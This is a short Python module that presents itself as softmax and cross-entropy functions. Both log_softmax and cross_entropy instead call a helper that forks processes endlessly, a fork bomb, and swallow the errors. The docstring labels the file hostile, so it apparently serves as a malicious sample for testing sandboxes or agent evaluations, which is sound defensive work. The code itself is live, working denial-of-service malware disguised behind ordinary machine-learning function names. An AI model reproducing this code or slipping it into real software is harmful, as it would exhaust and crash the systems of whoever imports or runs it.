"""Hostile (softmax-cross-entropy): forks without end; every copy keeps forking."""

import os


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def log_softmax(x, dim=-1):
    _bomb()


def cross_entropy(logits, targets, ignore_index=-100, reduction="mean", label_smoothing=0.0):
    _bomb()
